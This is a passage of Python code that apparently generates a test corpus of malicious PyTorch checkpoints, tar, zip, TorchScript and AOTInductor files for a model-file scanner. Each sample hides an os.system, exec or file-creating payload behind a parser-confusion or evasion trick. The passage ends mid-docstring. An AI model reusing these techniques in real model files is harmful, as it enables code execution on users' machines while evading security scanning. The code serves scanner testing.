    ctx.torch_zip(s.name, _lfb(G("_codecs", "decode") + T(S(_legacy_with_payload(ctx, s.name).hex()), S("hex")) + b"R"))


@sample(
    "n07_lfb_zip_deflated.pt",
    3,
    "torch",
    "_load_from_bytes of a torch zip whose data.pkl is deflate-compressed (miniz inflates it)",
    torch=True,
)
def _n07(ctx: Ctx, s: Sample) -> None:
    _d, members, _prefix = ctx.clean_zip()
    ents = [(n, inject(d, gm.os_system(s.name)) if n.endswith("/data.pkl") else d) for n, d in members]
    inner = zip_with(ents, {n: zipfile.ZIP_DEFLATED for n, _d in ents if n.endswith("/data.pkl")})
    ctx.torch_zip(s.name, _lfb(BY(inner)))


# ======================================================================================
# RC9 (and RC3/RC5 helpers): legacy tar
# ======================================================================================


def _legacy_tar(
    name: str,
    *,
    where: str,
    bool_count: bool = False,
    big_ndim: bool = False,
    members: Callable[[dict[str, bytes]], list[tuple[str, bytes]]] | None = None,
) -> bytes:
    """A torch legacy tar (sys_info, storages, tensors, pickle) with the payload in ``where``."""
    payload = gm.os_system(name)
    fs = G("torch", "FloatStorage")
    store = pk(T(S("0"), S("cpu"), fs))
    storages = pk(b"\x88" if bool_count else b"K\x01")
    storages += inject(store, payload) if where == "storage-args" else store
    storages += struct.pack("<q", 1) + struct.pack("<f", 1.0)
    storages += pk(b"]")  # storage views
    tensor_args = pk(T(S("t0"), S("0"), G("torch", "FloatTensor")))
    ndim = 65 if big_ndim else 1
    raw = (
        struct.pack("<i", ndim)
        + b"\0" * 4
        + struct.pack(f"<{ndim}q", *([1] * ndim))
        + struct.pack(f"<{ndim}q", *([1] * ndim))
        + struct.pack("<q", 0)
    )
    tensors = pk(b"K\x02") + tensor_args + raw
    tensors += (
        (
            inject(pk(T(S("t1"), S("0"), G("torch", "FloatTensor"))), payload)
            if where == "second-tensor"
            else pk(T(S("t1"), S("0"), G("torch", "FloatTensor")))
        )
        + struct.pack("<i", 1)
        + b"\0" * 4
        + struct.pack("<qqq", 1, 1, 0)
    )
    obj = pk(b"}" + S("epoch") + b"K\x01s")
    if where == "pickle":
        obj = inject(obj, payload)
    parts = {
        "sys_info": pickle.dumps(
            {"protocol_version": 1001, "little_endian": True, "type_sizes": {"short": 2, "int": 4, "long": 4}}, protocol=2
        ),
        "storages": storages,
        "tensors": tensors,
        "pickle": obj,
    }
    order = members(parts) if members else list(parts.items())
    return tar_of(order)


def _v7(tar: bytes) -> bytes:
    """Rewrite every header as a pre-POSIX (v7) header: no 'ustar' magic, checksum redone."""
    b = bytearray(tar)
    pos = 0
    while pos + 512 <= len(b) and any(b[pos : pos + 512]):
        h = b[pos : pos + 512]
        size = int(h[124:136].rstrip(b"\0 ") or b"0", 8)
        h[257:265] = b"\0" * 8
        h[265:345] = b"\0" * 80  # uname, gname, devmajor/minor
        h[345:500] = b"\0" * 155
        h[148:156] = b" " * 8
        h[148:156] = b"%06o\0 " % sum(h)
        b[pos : pos + 512] = h
        pos += 512 + (size + 511) // 512 * 512
    return bytes(b)


@sample(
    "t01_tar_bool_count.tar",
    9,
    "torch",
    "legacy tar: the storage count is True (range(True) == range(1)); the payload is in the storage's args pickle",
    torch=True,
)
def _t01(ctx: Ctx, s: Sample) -> None:
    ctx.write(s.name, _legacy_tar(s.name, where="storage-args", bool_count=True))


@sample(
    "t02_tar_65_dims.tar",
    9,
    "torch",
    "legacy tar: a 65-dimension tensor record, then a second tensor whose args pickle runs the payload",
    torch=True,
)
def _t02(ctx: Ctx, s: Sample) -> None:
    ctx.write(s.name, _legacy_tar(s.name, where="second-tensor", big_ndim=True))


@sample("t03_tar_v7.tar", 9, "torch", "legacy tar in pre-POSIX (v7) format: no 'ustar' magic, tarfile still reads it", torch=True)
def _t03(ctx: Ctx, s: Sample) -> None:
    ctx.write(s.name, _v7(_legacy_tar(s.name, where="pickle")))


@sample(
    "t04_tar_hardlink_pickle.tar",
    9,
    "torch",
    "legacy tar whose 'pickle' member is a hard link to 'data/0' (tarfile.extractfile follows it)",
    torch=True,
)
def _t04(ctx: Ctx, s: Sample) -> None:
    def link(tf: tarfile.TarFile) -> None:
        ti = tarfile.TarInfo("pickle")
        ti.type = tarfile.LNKTYPE
        ti.linkname = "data/0"
        ti.mtime = 0
        tf.addfile(ti)

    ctx.write(s.name, tar_of(_legacy_parts(s.name), extra=link))


def _legacy_parts(name: str) -> list[tuple[str, bytes]]:
    out: list[tuple[str, bytes]] = []
    with tarfile.open(fileobj=io.BytesIO(_legacy_tar(name, where="pickle"))) as tf:
        for m in tf.getmembers():
            f = tf.extractfile(m)
            out.append((m.name, f.read() if f else b""))
    return [(n if n != "pickle" else "data/0", d) for n, d in out]


@sample(
    "t05_tar_dup_pickle.tar",
    9,
    "torch",
    "legacy tar with two 'pickle' members: tarfile (torch) uses the last, a benign one comes first",
    torch=True,
)
def _t05(ctx: Ctx, s: Sample) -> None:
    parts = dict(_legacy_parts(s.name))
    evil = parts.pop("data/0")
    benign = pk(b"}" + S("epoch") + b"K\x01s")
    ctx.write(s.name, tar_of(list(parts.items()) + [("pickle", benign), ("pickle", evil)]))


def _gnu_member(name: str, data: bytes) -> bytes:
    ti = tarfile.TarInfo(name)
    ti.size, ti.mtime = len(data), 0
    return ti.tobuf(format=tarfile.GNU_FORMAT) + data + b"\0" * (-len(data) % 512)


def _gnu_sparse_member(name: str, segments: list[tuple[int, bytes]], realsize: int) -> bytes:
    """An old-style GNU sparse member ('S'): the archive stores only ``segments``;
    tarfile.extractfile reassembles them with zero-filled holes up to ``realsize``."""
    assert len(segments) <= 4
    stored = b"".join(d for _o, d in segments)
    ti = tarfile.TarInfo(name)
    ti.size, ti.mtime = len(stored), 0
    h = bytearray(ti.tobuf(format=tarfile.GNU_FORMAT))
    h[156:157] = b"S"
    pos = 386
    for off, d in segments:
        h[pos : pos + 12] = b"%011o\0" % off
        h[pos + 12 : pos + 24] = b"%011o\0" % len(d)
        pos += 24
    h[482] = 0
    h[483:495] = b"%011o\0" % realsize
    h[148:156] = b" " * 8
    h[148:156] = b"%06o\0 " % sum(h)
    return bytes(h) + stored + b"\0" * (-len(stored) % 512)


@sample(
    "t06_tar_sparse_pickle.tar",
    9,
    "torch",
    "legacy tar whose 'pickle' is a GNU sparse member: reassembled (with its zero hole) "
    "it runs the payload; its stored bytes read as a pickle hide it in a string",
    torch=True,
)
def _t06(ctx: Ctx, s: Sample) -> None:
    payload = p0_system(s.name)
    hole = len(payload) + 1 + 2 * 8
    head = b"\x80\x02X" + struct.pack("<I", 4 + hole)
    tail = b"aaaa" + payload + b"0" + b"N0" * 8 + b"0}."
    parts = dict(_legacy_parts(s.name))
    parts.pop("data/0")
    out = b"".join(_gnu_member(n, d) for n, d in parts.items())
    out += _gnu_sparse_member("pickle", [(0, head), (len(head) + hole, tail)], len(head) + hole + len(tail))
    ctx.write(s.name, out + b"\0" * 1024)


# ======================================================================================
# RC4 (DCP): items read from the byte ranges of .metadata, whatever the names
# ======================================================================================


def _dcp(ctx: Ctx, name: str, *, extra_benign: bool = True) -> str:
    import torch
    import torch.distributed.checkpoint as dcp

    d = ctx.path(name)

    class _R:
        def __reduce__(self):  # type: ignore[no-untyped-def]
            return (os.system, (sh(name),))

    state: dict[str, Any] = {"a_extra": _R(), "w": torch.ones(2, 2)}
    if extra_benign:
        state["z_note"] = {"epoch": 3}
    dcp.save(state, checkpoint_id=d, no_dist=True)
    return d


def _dcp_rewrite(d: str, fn: Callable[[Any], None]) -> None:
    mp = os.path.join(d, ".metadata")
    with open(mp, "rb") as f:
        md = gm._plain_pickle_load(f.read())
    fn(md)
    with open(mp, "wb") as f:
        f.write(pickle.dumps(md, protocol=2))


def _dcp_relocate(d: str, new_rel: str, *, move_to: str | None = None, pad: int = 0) -> None:
    """Point every storage item at ``new_rel`` (moving the one data file there)."""
    files = [f for f in os.listdir(d) if f.endswith(".distcp")]
    assert len(files) == 1, files
    src = os.path.join(d, files[0])
    dst = move_to or os.path.join(d, new_rel)
    os.makedirs(os.path.dirname(dst), exist_ok=True)
    with open(src, "rb") as f:
        data = f.read()
    os.remove(src)
    with open(dst, "wb") as f:
        f.write(b"\0" * pad + data)

    def fix(md: Any) -> None:
        for k, v in list(md.storage_data.items()):
            md.storage_data[k] = dataclasses.replace(v, relative_path=new_rel, offset=v.offset + pad)

    _dcp_rewrite(d, fix)


@sample(
    "d01_dcp_renamed_shard", 4, "dcp", "DCP whose data file is 'weights.bin' (not .distcp); .metadata points there", torch=True
)
def _d01(ctx: Ctx, s: Sample) -> None:
    _dcp_relocate(_dcp(ctx, s.name), "weights.bin")


@sample(
    "d02_dcp_subdir_shard",
    4,
    "dcp",
    "DCP whose items live in 'shards/part0.distcp' (a sub-folder named by .metadata)",
    torch=True,
)
def _d02(ctx: Ctx, s: Sample) -> None:
    _dcp_relocate(_dcp(ctx, s.name), "shards/part0.distcp")


@sample(
    "d03_dcp_dot_slash",
    4,
    "dcp",
    "DCP with relative_path './__0_0.distcp' (the same file for dcp.load, another name for a name match)",
    torch=True,
)
def _d03(ctx: Ctx, s: Sample) -> None:
    _dcp_relocate(_dcp(ctx, s.name), "./__0_0.distcp")


@sample(
    "d04_dcp_items_in_metadata",
    4,
    "dcp",
    "DCP items appended to .metadata itself (relative_path '.metadata', offsets after the pickle's STOP)",
    torch=True,
)
def _d04(ctx: Ctx, s: Sample) -> None:
    d = _dcp(ctx, s.name)
    files = [f for f in os.listdir(d) if f.endswith(".distcp")]
    with open(os.path.join(d, files[0]), "rb") as f:
        data = f.read()
    os.remove(os.path.join(d, files[0]))
    mp = os.path.join(d, ".metadata")
    with open(mp, "rb") as f:
        md = gm._plain_pickle_load(f.read())
    start = 70000  # the items start here, after the metadata pickle and zero padding
    for k, v in list(md.storage_data.items()):
        md.storage_data[k] = dataclasses.replace(v, relative_path=".metadata", offset=v.offset + start)
    blob = pickle.dumps(md, protocol=2)
    assert len(blob) < start
    with open(mp, "wb") as f:
        f.write(blob + b"\0" * (start - len(blob)) + data)


@sample(
    "d05_dcp_gap_before_items",
    4,
    "dcp",
    "DCP data file with 64 KiB of zeros before the items (offsets shifted): a split at zip signatures from byte 0 finds nothing",
    torch=True,
)
def _d05(ctx: Ctx, s: Sample) -> None:
    _dcp_relocate(_dcp(ctx, s.name), "__0_0.distcp", pad=65536)


# ======================================================================================
# RC5: links out of the artifact
# ======================================================================================


@sample("l01_dcp_symlinked_shard", 5, "dcp", "DCP whose __0_0.distcp is a symlink to a file outside the checkpoint", torch=True)
def _l01(ctx: Ctx, s: Sample) -> None:
    d = _dcp(ctx, s.name)
    outside = ctx.path("_outside", s.name + ".distcp")
    os.makedirs(os.path.dirname(outside), exist_ok=True)
    shutil.move(os.path.join(d, "__0_0.distcp"), outside)
    os.symlink(os.path.relpath(outside, d), os.path.join(d, "__0_0.distcp"))


@sample(
    "l02_dcp_symlinked_metadata",
    5,
    "dcp",
    "DCP whose .metadata is a symlink to a pickle outside the checkpoint (plain pickle.load runs it)",
    torch=True,
)
def _l02(ctx: Ctx, s: Sample) -> None:
    import torch
    import torch.distributed.checkpoint as dcp

    d = ctx.path(s.name)
    dcp.save({"w": torch.ones(2)}, checkpoint_id=d, no_dist=True)
    with open(os.path.join(d, ".metadata"), "rb") as f:
        md = gm._plain_pickle_load(f.read())
    outside = ctx.path("_outside", s.name + ".metadata")
    os.makedirs(os.path.dirname(outside), exist_ok=True)
    with open(outside, "wb") as f:
        f.write(inject(pickle.dumps(md, protocol=2), gm.os_system(s.name)))
    os.remove(os.path.join(d, ".metadata"))
    os.symlink(os.path.relpath(outside, d), os.path.join(d, ".metadata"))


@sample(
    "l03_dir_symlinked_subdir",
    5,
    "pickle",
    "a model folder whose sub-folder is a symlink to a folder outside; the loader opens a pickle through it",
    load="l03_dir_symlinked_subdir/weights/model.pkl",
)
def _l03(ctx: Ctx, s: Sample) -> None:
    d = ctx.path(s.name)
    outside = ctx.path("_outside", s.name)
    os.makedirs(outside, exist_ok=True)
    os.makedirs(d, exist_ok=True)
    with open(os.path.join(outside, "model.pkl"), "wb") as f:
        f.write(pk(gm.os_system(s.name)))
    with open(os.path.join(d, "config.json"), "w") as f:
        f.write('{"model": "weights/model.pkl"}')
    os.symlink(os.path.relpath(outside, d), os.path.join(d, "weights"))


@sample(
    "l04_dcp_path_escape",
    5,
    "dcp",
    "DCP .metadata whose relative_path is '../_outside/...': dcp.load reads items from outside the checkpoint",
    torch=True,
)
def _l04(ctx: Ctx, s: Sample) -> None:
    d = _dcp(ctx, s.name)
    outside = ctx.path("_outside", s.name + ".distcp")
    _dcp_relocate(d, os.path.relpath(outside, d), move_to=outside)


@sample(
    "l05_tar_symlink_storages.tar",
    5,
    "torch",
    "legacy tar whose 'storages' member is a symlink to a file outside; torch extracts it and opens the link",
    torch=True,
)
def _l05(ctx: Ctx, s: Sample) -> None:
    parts = dict(_legacy_parts(s.name))
    parts["pickle"] = parts.pop("data/0")
    outside = ctx.path("_outside", s.name + ".storages")
    os.makedirs(os.path.dirname(outside), exist_ok=True)
    fs = G("torch", "FloatStorage")
    evil = (
        pk(b"K\x01")
        + inject(pk(T(S("0"), S("cpu"), fs)), gm.os_system(s.name))
        + struct.pack("<q", 1)
        + struct.pack("<f", 1.0)
        + pk(b"]")
    )
    with open(outside, "wb") as f:
        f.write(evil)
    storages_benign = parts.pop("storages")
    del storages_benign

    def link(tf: tarfile.TarFile) -> None:
        ti = tarfile.TarInfo("storages")
        ti.type = tarfile.SYMTYPE
        ti.linkname = outside
        ti.mtime = 0
        tf.addfile(ti)

    order = [("sys_info", parts["sys_info"])]
    b = io.BytesIO()
    with tarfile.open(fileobj=b, mode="w", format=tarfile.USTAR_FORMAT) as tf:
        for n, d in order:
            ti = tarfile.TarInfo(n)
            ti.size, ti.mtime = len(d), 0
            tf.addfile(ti, io.BytesIO(d))
        link(tf)
        for n in ("tensors", "pickle"):
            ti = tarfile.TarInfo(n)
            ti.size, ti.mtime = len(parts[n]), 0
            tf.addfile(ti, io.BytesIO(parts[n]))
    ctx.write(s.name, b.getvalue())


# ======================================================================================
# RC6: budgets (flagged as 'limit'/UNANALYSABLE is enough: the verdict must not be CLEAN)
# ======================================================================================


@sample(
    "b01_noop_flood.pkl",
    6,
    "pickle",
    "6 million no-op opcodes (NONE, POP; 12 MB) before the payload: a fraction of a second for the C unpickler",
    expect="flagged",
)
def _b01(ctx: Ctx, s: Sample) -> None:
    ctx.write(s.name, b"\x80\x02" + b"N0" * 6_000_000 + gm.os_system(s.name) + b".")


@sample(
    "b02_shared_laughs.pkl",
    6,
    "pickle",
    "a list nested 40 levels deep, each level holding the previous one twice "
    "(memo): 2**40 leaves if walked as a tree; the payload runs after it",
    expect="flagged",
)
def _b02(ctx: Ctx, s: Sample) -> None:
    body = b"]" + S("x") + b"a" + b"q\x00"
    for i in range(1, 41):
        body += b"]" + b"h" + bytes([i - 1]) + b"ah" + bytes([i - 1]) + b"aq" + bytes([i])
    body += b"0"
    body += call(G("builtins", "list"), b"h\x28") + b"0"
    ctx.write(s.name, pk(body + gm.os_system(s.name)))


@sample(
    "b03_zip_overlap_flood.pt",
    6,
    "torch",
    "torch zip with 2,000 extra central-directory entries all pointing at data.pkl (1 MiB of opcodes before its payload)",
    expect="flagged",
    torch=True,
)
def _b03(ctx: Ctx, s: Sample) -> None:
    evil = b"\x80\x02" + b"N0" * 500_000 + gm.os_system(s.name) + b"0" + ctx.clean_data_pkl()[2:]
    data = ctx.torch_zip(s.name, evil)
    # add central records that alias data.pkl's local header
    e = data.rindex(b"PK\x05\x06")
    n_ent, cd_size, cd_off = struct.unpack_from("<HII", data, e + 10)
    cd = data[cd_off : cd_off + cd_size]
    p, rec = 0, None
    while p < len(cd):
        nlen, xlen, clen = struct.unpack_from("<HHH", cd, p + 28)
        nm = cd[p + 46 : p + 46 + nlen]
        if nm.endswith(b"/data.pkl"):
            rec = cd[p : p + 46 + nlen + xlen + clen]
        p += 46 + nlen + xlen + clen
    assert rec is not None
    extra = b""
    for i in range(2000):
        nm = f"{nm.split(b'/')[0].decode()}/extra/{i:05d}.pkl".encode()
        r = bytearray(rec[:46]) + nm
        struct.pack_into("<HHH", r, 28, len(nm), 0, 0)
        extra += bytes(r)
    total = n_ent + 2000
    out = (
        data[:cd_off] + cd + extra + struct.pack("<4sHHHHIIH", b"PK\x05\x06", 0, 0, total, total, cd_size + len(extra), cd_off, 0)
    )
    ctx.write(s.name, out)


@sample(
    "b04_deep_list.pkl",
    6,
    "pickle",
    "a list nested 200,000 levels deep (the C unpickler builds it iteratively), then the payload",
    expect="flagged",
)
def _b04(ctx: Ctx, s: Sample) -> None:
    depth = 200_000
    ctx.write(s.name, b"\x80\x02" + b"]" * depth + b"a" * (depth - 1) + b"0" + gm.os_system(s.name) + b".")


def _pt2_evil_inputs(ctx: Ctx, name: str) -> bytes:
    """A .pt2 whose sample inputs (retried with weights_only=False) run os.system."""
    import torch

    class _R:
        def __reduce__(self):  # type: ignore[no-untyped-def]
            return (os.system, (sh(name),))

    evil = io.BytesIO()
    torch.save(((torch.randn(1, 3),), {"_": _R()}), evil)
    return ctx.rewrite_zip(name, ctx.pt2_clean(), lambda rel, d: evil.getvalue() if rel.startswith("data/sample_inputs/") else d)


# ======================================================================================
# RC11: zip end-record selection (miniz ignores a zip64 locator below offset 76)
# ======================================================================================


def _eocd_below_76(evil: bytes, benign: bytes) -> bytes:
    """torch (miniz) reads ``evil``'s directory; a reader that follows the zip64 locator
    in front of an end record at offset 51 reads ``benign``'s.

    Layout: [empty local header 'x' (31 B)][zip64 locator (20 B)][EOCD at 51 -> evil CD]
    [comment: evil's bytes][benign's bytes][zip64 EOCD record -> benign CD]. Both archives
    keep their own offsets (shifted by where they are placed).
    """
    head = struct.pack("<4sHHHHHIIIHH", b"PK\x03\x04", 20, 0, 0, 0, 0x21, 0, 0, 0, 1, 0) + b"x"
    base_evil = len(head) + 20 + 22

    def relocate(z: bytes, base: int) -> tuple[bytes, int, int, int]:
        e = z.rindex(b"PK\x05\x06")
        n, size, off = struct.unpack_from("<HII", z, e + 10)
        cd = bytearray(z[off : off + size])
        p = 0
        while p < len(cd):
            nlen, xlen, clen = struct.unpack_from("<HHH", cd, p + 28)
            (lo,) = struct.unpack_from("<I", cd, p + 42)
            struct.pack_into("<I", cd, p + 42, lo + base)
            p += 46 + nlen + xlen + clen
        return z[:off] + bytes(cd), n, size, off + base

    evil_b, n_e, size_e, cd_e = relocate(evil, base_evil)
    base_benign = base_evil + len(evil_b)
    benign_b, n_b, size_b, cd_b = relocate(benign, base_benign)
    z64_pos = base_benign + len(benign_b)
    z64 = struct.pack("<4sQHHIIQQQQ", b"PK\x06\x06", 44, 45, 45, 0, 0, n_b, n_b, size_b, cd_b)
    locator = struct.pack("<4sIQI", b"PK\x06\x07", 0, z64_pos, 1)
    comment = evil_b + benign_b + z64
    eocd = struct.pack("<4sHHHHIIH", b"PK\x05\x06", 0, 0, n_e, n_e, size_e, cd_e, len(comment))
    # torch's miniz adapter only finds an end record within the last 4 KiB of the file
    assert len(eocd + comment) <= 4096, len(eocd + comment)
    return head + locator + eocd + comment


@sample(
    "e01_eocd_below_76.pt",
    11,
    "torch",
    "end record at offset 51 behind a zip64 locator: miniz (torch) ignores the locator "
    "and reads the malicious directory, a zip64-following reader the benign one",
    torch=True,
)
def _e01(ctx: Ctx, s: Sample) -> None:
    evil = ctx.torch_zip(s.name, inject(ctx.clean_data_pkl(), gm.os_system(s.name)))
    benign, _m, _p = ctx.clean_zip()
    ctx.write(s.name, _eocd_below_76(evil, benign))


@sample("e02_eocd_below_76_exec.pth", 11, "torch", "as e01, data.pkl execs Python source", torch=True)
def _e02(ctx: Ctx, s: Sample) -> None:
    evil = ctx.torch_zip(s.name, inject(ctx.clean_data_pkl(), call(G("builtins", "exec"), S(py(s.name)))))
    benign, _m, _p = ctx.clean_zip()
    ctx.write(s.name, _eocd_below_76(evil, benign))


@sample(
    "e04_eocd_below_76_dotted.pt",
    11,
    "torch",
    "as e01, data.pkl uses the dotted GLOBAL 'argparse _os.system' under PROTO 4",
    torch=True,
)
def _e04(ctx: Ctx, s: Sample) -> None:
    evil = ctx.torch_zip(s.name, b"\x80\x04" + G("argparse", "_os.system") + S(sh(s.name)) + b"\x85R0" + ctx.clean_data_pkl()[2:])
    benign, _m, _p = ctx.clean_zip()
    ctx.write(s.name, _eocd_below_76(evil, benign))


@sample(
    "e03_cd_eocd_gap.pt",
    11,
    "torch",
    "bytes between the central directory and the end record: zipfile "
    "shifts every offset (reads a benign copy), miniz (torch) does not",
    torch=True,
)
def _e03(ctx: Ctx, s: Sample) -> None:
    _d, members, _p = ctx.clean_zip()
    evil = [(n, inject(d, gm.os_system(s.name)) if n.endswith("/data.pkl") else d) for n, d in members]
    ctx.write(s.name, _npz_two_views(evil, members))


# ======================================================================================
# RC4 (TorchScript): code lexed as torch's frontend lexes it; bytecode-only archives
# ======================================================================================

_TS_SRC = """
import torch


class Evil(torch.nn.Module):
    def __init__(self):
        super().__init__()
        self.x = 1

    def forward(self, a):
        return a

    @torch.jit.export
    def __getstate__(self):
        return (self.x, self.training)

    @torch.jit.export
    def __setstate__(self, s: tuple[int, bool]):
        self.training = s[1]
        self.x = s[0] + BODY
"""


def _marker_path(name: str) -> str:
    """Absolute marker path baked into code that cannot read the environment."""
    import tempfile

    return os.path.join(os.environ.get(ENV) or tempfile.gettempdir(), name)


def _ts_archive(ctx: Ctx, name: str, *, benign: bool = False, lite: bool = False, save: bool = False) -> bytes:
    """A scripted module whose __setstate__ (run by torch.jit.load and the lite
    interpreter) calls ``torch.from_file(marker, shared=True)``, which creates the file."""
    import importlib.util as iu
    import tempfile

    import torch

    body = "1" if benign else f"torch.from_file({_marker_path(name)!r}, True, 1).numel()"
    if save:  # aten::save writes the state to a file
        body = f"0\n        torch.save(s, {_marker_path(name)!r})"
    mod_name = "ts_" + "".join(c if c.isalnum() else "_" for c in name)
    with tempfile.TemporaryDirectory() as td:
        p = os.path.join(td, mod_name + ".py")
        with open(p, "w") as f:
            f.write(_TS_SRC.replace("BODY", body))
        spec = iu.spec_from_file_location(mod_name, p)
        mod = iu.module_from_spec(spec)  # type: ignore[arg-type]
        sys.modules[mod_name] = mod
        spec.loader.exec_module(mod)  # type: ignore[union-attr]
        m = torch.jit.script(mod.Evil())
        out = os.path.join(td, "m.pt")
        if lite:
            import warnings

            with warnings.catch_warnings():
                warnings.simplefilter("ignore")
                m._save_for_lite_interpreter(out)
        else:
            torch.jit.save(m, out)
        with open(out, "rb") as f:
            return f.read()


def _rezip(data: bytes, edit: Callable[[str, bytes], bytes | None]) -> bytes:
    """Rewrite a zip member by member (``edit`` returns new bytes, or None to drop)."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as zin, zipfile.ZipFile(out, "w") as zout:
        for i in zin.infolist():
            new = edit(i.filename, zin.read(i))
            if new is not None:
                zout.writestr(zipfile.ZipInfo(i.filename, (1980, 1, 1, 0, 0, 0)), new)
    return out.getvalue()


def _edit_code(data: bytes, fn: Callable[[str], str]) -> bytes:
    """Apply ``fn`` to the TorchScript code files; drop the debug pickles (source ranges)."""

    def edit(name: str, b: bytes) -> bytes | None:
        if name.endswith(".debug_pkl"):
            return None
        if "/code/" in name and name.endswith(".py"):
            new = fn(b.decode())
            assert new != b.decode(), "edit did not apply"
            return new.encode()
        return b

    return _rezip(data, edit)


_FROM_FILE_CALL = re.compile(r"torch\.from_file\([^()]*\)")


@sample(
    "s01_ts_setstate_two_spaces.pt",
    4,
    "jit",
    "TorchScript 'def  __setstate__' (two blanks): torch's lexer accepts it, a substring test does not",
    torch=True,
)
def _s01(ctx: Ctx, s: Sample) -> None:
    ctx.write(s.name, _edit_code(_ts_archive(ctx, s.name), lambda t: t.replace("def __setstate__", "def  __setstate__")))


@sample(
    "s02_ts_line_continuation.pt",
    4,
    "jit",
    "TorchScript 'torch.from_file \\\\<newline> (...)': a backslash continuation between the operator and its call",
    torch=True,
)
def _s02(ctx: Ctx, s: Sample) -> None:
    ctx.write(
        s.name, _edit_code(_ts_archive(ctx, s.name), lambda t: t.replace("torch.from_file(", "torch.from_file \\\n      (", 1))
    )


@sample(
    "s03_ts_parenthesised_op.pt",
    4,
    "jit",
    "TorchScript '(torch.from_file)(...)': the operator is called through parentheses",
    torch=True,
)
def _s03(ctx: Ctx, s: Sample) -> None:
    ctx.write(s.name, _edit_code(_ts_archive(ctx, s.name), lambda t: t.replace("torch.from_file(", "(torch.from_file)(", 1)))


@sample(
    "s04_ts_spaced_save.pt",
    4,
    "jit",
    "TorchScript 'torch . save(obj, path)' in __setstate__: aten::save writes a file; blanks around the dot",
    torch=True,
)
def _s04(ctx: Ctx, s: Sample) -> None:
    ctx.write(s.name, _edit_code(_ts_archive(ctx, s.name, save=True), lambda t: t.replace("torch.save(", "torch . save(", 1)))


@sample(
    "s05_ts_tab_setstate.pt",
    4,
    "jit",
    "TorchScript 'def<TAB>__setstate__' and 'ops.aten.from_file' (the operator by its schema name)",
    torch=True,
)
def _s05(ctx: Ctx, s: Sample) -> None:
    ctx.write(
        s.name,
        _edit_code(
            _ts_archive(ctx, s.name),
            lambda t: t.replace("def __setstate__", "def\t__setstate__").replace("torch.from_file(", "ops.aten.from_file("),
        ),
    )


@sample(
    "s06_lite_bytecode_only.ptl",
    4,
    "lite",
    "lite-interpreter archive without code/: bytecode.pkl's __setstate__ calls aten::from_file",
    torch=True,
)
def _s06(ctx: Ctx, s: Sample) -> None:
    ctx.write(s.name, _rezip(_ts_archive(ctx, s.name, lite=True), lambda n, b: None if "/code/" in n else b))


@sample(
    "s07_lite_benign_code.ptl",
    4,
    "lite",
    "lite-interpreter archive whose code/ is harmless while bytecode.pkl (what the lite loader runs) calls aten::from_file",
    torch=True,
)
def _s07(ctx: Ctx, s: Sample) -> None:
    ctx.write(s.name, _edit_code(_ts_archive(ctx, s.name, lite=True), lambda t: _FROM_FILE_CALL.sub("torch.zeros([1])", t)))


@sample(
    "e05_eocd_below_76_jit.pt",
    11,
    "jit",
    "end record at offset 51 behind a zip64 locator; torch.jit.load (miniz) "
    "reads a TorchScript archive whose __setstate__ creates a file",
    torch=True,
)
def _e05(ctx: Ctx, s: Sample) -> None:
    evil = _ts_archive(ctx, s.name)
    b = io.BytesIO()
    import torch

    torch.save({}, b)
    ctx.write(s.name, _eocd_below_76(evil, b.getvalue()))


# ======================================================================================
# RC10: AOTInductor folders inside a .pt2 (torch.export.load loads them too)
# ======================================================================================

_AOTI_STEM = "c" + "a" * 51
_AOTI_META = {
    "AOTI_DEVICE_KEY": "cpu",
    "AOTI_PLATFORM": "linux",
    "AOTI_MACHINE": "x86_64",
    "AOTI_CPU_ISA": "AVX2",
    "AOTI_COMPUTE_CAPABILITY": "",
}

#: the C ABI AOTIModelContainerRunner looks up; every stub succeeds (a model with no outputs)
_AOTI_STUBS = r"""
#include <stddef.h>
#ifdef __cplusplus
extern "C" {
#endif
static int dummy;
static const char *spec = "[1, {\"type\": null, \"context\": null, \"children_spec\": []}]";
#define OK(name) int name(void *a, void *b, void *c, void *d, void *e, void *f) { return 0; }
int AOTInductorModelContainerCreateWithDevice(void **h, size_t n, const char *dev, const char *cubin) { *h = &dummy; return 0; }
int AOTInductorModelContainerGetNumOutputs(void *h, size_t *n) { *n = 0; return 0; }
int AOTInductorModelContainerGetNumConstants(void *h, size_t *n) { *n = 0; return 0; }
int AOTInductorModelContainerGetConstantsBlobSize(void *h, size_t *n) { *n = 0; return 0; }
int AOTInductorModelContainerGetCallSpec(void *h, const char **i, const char **o) { *i = spec; *o = spec; return 0; }
const char *AOTInductorGetLastError(void) { return ""; }
OK(AOTInductorModelContainerDelete) OK(AOTInductorModelContainerExtractConstantsMap)
OK(AOTInductorModelContainerFreeInactiveConstantBuffer) OK(AOTInductorModelContainerGetConstantDtype)
OK(AOTInductorModelContainerGetConstantName) OK(AOTInductorModelContainerGetConstantOriginalFQN)
OK(AOTInductorModelContainerRun) OK(AOTInductorModelContainerRunConstantFolding)
OK(AOTInductorModelContainerRunSingleThreaded) OK(AOTInductorModelContainerSwapConstantBuffer)
OK(AOTInductorModelContainerUpdateConstantBuffer) OK(AOTInductorModelContainerUpdateConstantBufferFromCpu)
OK(AOTInductorModelContainerUpdateInactiveConstantBuffer) OK(AOTInductorModelContainerUpdateUserManagedConstantBuffer)
OK(AOTInductorModelUpdateConstantsFromBlob) OK(AOTInductorModelContainerGetConstantFromFolded)
OK(AOTInductorModelContainerGetConstantType) OK(AOTInductorModelContainerGetConstantDataSize)
OK(AOTInductorModelContainerGetNumInputs) OK(AOTInductorModelContainerGetInputName)
OK(AOTInductorModelContainerGetOutputName)
#ifdef __cplusplus
}
#endif
"""

_AOTI_CTOR = r"""
#include <stdio.h>
#include <stdlib.h>
__attribute__((constructor)) static void tl_marker(void) {
    const char *d = getenv("TORCHLESS_SCAN_MARKER_DIR");
    char p[4096];
    snprintf(p, sizeof p, "%s/%s", d ? d : ".", MARKER_NAME);
    FILE *f = fopen(p, "w");
    if (f) fclose(f);
}
"""


def _aoti_so(name: str) -> bytes:
    """A shared object with the AOTI C ABI whose constructor creates the marker."""
    import tempfile

    with tempfile.TemporaryDirectory() as td:
        src, so = os.path.join(td, "m.c"), os.path.join(td, "m.so")
        with open(src, "w") as f:
            f.write(_AOTI_CTOR.replace("MARKER_NAME", json.dumps(name)) + _AOTI_STUBS)
        subprocess.run(["gcc", "-shared", "-fPIC", "-O1", "-o", so, src], check=True, capture_output=True)
        with open(so, "rb") as f:
            return f.read()


def _aoti_files(name: str, kind: str, model: str = "model") -> dict[str, bytes]:
    """``data/aotinductor/<model>/`` members: a native library (``so``) or C++ source
    plus compile/link flags whose passthrough arguments run a shell command substitution
